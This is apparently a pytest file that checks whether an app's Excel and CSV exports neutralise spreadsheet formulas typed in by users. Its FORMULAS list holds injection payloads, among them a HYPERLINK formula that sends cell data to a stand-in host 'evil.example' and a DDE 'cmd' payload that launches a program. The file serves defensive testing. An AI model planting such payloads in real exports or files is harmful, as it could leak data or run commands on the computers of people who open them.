"""Hostile-input sweep, surface "formulas in exports": text that a spreadsheet would run.

Each formula text is typed where a user types text, then every Excel and CSV file the app writes
from it is opened: no cell is a formula, no text cell or CSV field starts with = + - @ (or tab/CR),
and the text is still there behind one apostrophe (core/cells.py is the one helper). The count of
inputs is in README's "Reliability: hostile inputs" table (tests/test_hostile_sweep_counts.py).
"""
from __future__ import annotations

import csv
import io

import pytest
from openpyxl import Workbook, load_workbook

from core import cells
from core.survey import calls
from core.framework import library as framework_library
from core.station import register_import as imports
from core.survey import rules as survey
from core.scoring import scoresheet as S
from core.station import data as SD
from core.framework.model import available_frameworks

FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"点我查看")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]
PREFIXES = ("=", "+", "-", "@", "\t", "\r")


def _xlsx_texts(data: bytes) -> list[str]:
    wb = load_workbook(io.BytesIO(data))
    out = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a live formula: {c.value!r}"
                if isinstance(c.value, str):
                    assert not c.value.startswith(PREFIXES), f"{ws.title}!{c.coordinate}: {c.value!r}"
                    out.append(c.value)
    return out


def _csv_texts(data: bytes) -> list[str]:
    out = []
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")):
        for v in row:
            assert not v.startswith(PREFIXES), repr(v)
            out.append(v)
    return out


def _station_export(db, aid, text):
    """导出 Excel (every table of the assessment): a finding, a score note and an indicator."""
    from core.agency.exports import export_xlsx

    S.add_finding(db, aid, 2, "A", "concern", text)
    SD.save_indicator(db, aid, 1, "新指标", "人次", 10, 5, note=text)
    return _xlsx_texts(export_xlsx(db, aid))


def _indicator_export(db, aid, text):
    """导出当前指标（Excel）: the indicator table as the page offers it."""
    SD.save_indicator(db, aid, 1, text, "人次", 10, 5, note=text)
    return _xlsx_texts(imports.indicator_template("xlsx", rows=SD.indicator_table(db, aid)))


def _indicator_csv(db, aid, text):
    """The CSV writer the templates use, fed the indicator rows."""
    SD.save_indicator(db, aid, 1, text, "人次", 10, 5, note=text)
    rows = [[r.get("name"), r.get("unit"), r.get("target"), r.get("actual"), r.get("note")]
            for r in SD.indicator_table(db, aid)]
    return _csv_texts(imports._csv(["指标名称", "单位", "协议指标量", "实际完成量", "备注"], rows))


def _framework_export(db, aid, text):
    """The framework's Excel 指标体系 (a framework whose indicator name and guidance hold the text)."""
    wb = load_workbook(io.BytesIO(framework_library.template_xlsx()))
    ws = wb["指标"]
    header = [c.value for c in ws[1]]
    row = next(r for r in ws.iter_rows(min_row=2) if r[header.index("指标代码")].value)
    row[header.index("指标名称")].value = text.strip() or "x"
    row[header.index("指标名称")].data_type = "s"
    buf = io.BytesIO()
    wb.save(buf)
    new_id = framework_library.import_xlsx(db, aid, 1, buf.getvalue(), "fw.xlsx")
    texts = _xlsx_texts(framework_library.export_xlsx(db, new_id))
    # …and the file reads back as written (the apostrophe is the export's, not the user's)
    again = framework_library.check_xlsx(framework_library.export_xlsx(db, new_id))
    names = [i["name"] for s in again["sections"] for i in s.get("indicators", [])]
    assert text.strip() in names
    return texts


def _survey_csv(db, aid, text):
    """导出回访结果（CSV，已脱敏）: a call's comment."""
    item = next(i for i in calls.list_items(db, aid) if i["status"] == "pending")
    calls.assign(db, aid, 1, [item["id"]], 6)
    calls.record_call(db, aid, 6, item["id"], 1, survey.REFUSED, comment=text)
    return _csv_texts(cells.csv_from_dicts(calls.export_rows(db, aid)))


SURFACES = {"excel-export": _station_export, "indicator-excel": _indicator_export, "indicator-csv": _indicator_csv,
            "framework-excel": _framework_export, "survey-csv": _survey_csv}
CASES = [(s, t) for s in SURFACES for t in FORMULAS]


@pytest.mark.parametrize("surface,text", CASES, ids=[f"{s}-{i}" for s in SURFACES for i in range(len(FORMULAS))])
def test_a_formula_typed_by_a_user_reaches_every_export_as_inert_text(demo_db, surface, text):
    db, aid = demo_db
    texts = SURFACES[surface](db, aid, text)
    shown = {cells.neutralise(text), cells.neutralise(text.strip())}   # forms strip surrounding blanks
    assert any(s in t for t in texts for s in shown), f"{text!r} missing from {surface}"


def test_the_one_helper_neutralises_every_prefix_and_restores_it():
    for t in FORMULAS + ["=", "@", "-"]:
        assert cells.neutralise(t).startswith("'") and cells.restore(cells.neutralise(t)) == t.replace("\x0b", "")
    assert cells.neutralise("普通文字 =1") == "普通文字 =1" and cells.restore("'普通") == "'普通"
    wb = Workbook()
    wb.active["A1"] = "=1+1"
    cells.neutralise_workbook(wb)
    assert wb.active["A1"].data_type == "s" and wb.active["A1"].value == "'=1+1"


def test_the_shipped_framework_has_no_indicator_lost_in_the_round_trip():
    fw = available_frameworks()["gz-2024-four-party"]
    data = framework_library.check_xlsx(framework_library.template_xlsx())
    assert sum(len(s.get("indicators", [])) for s in data["sections"]) == sum(len(s.indicators) for s in fw.sections)
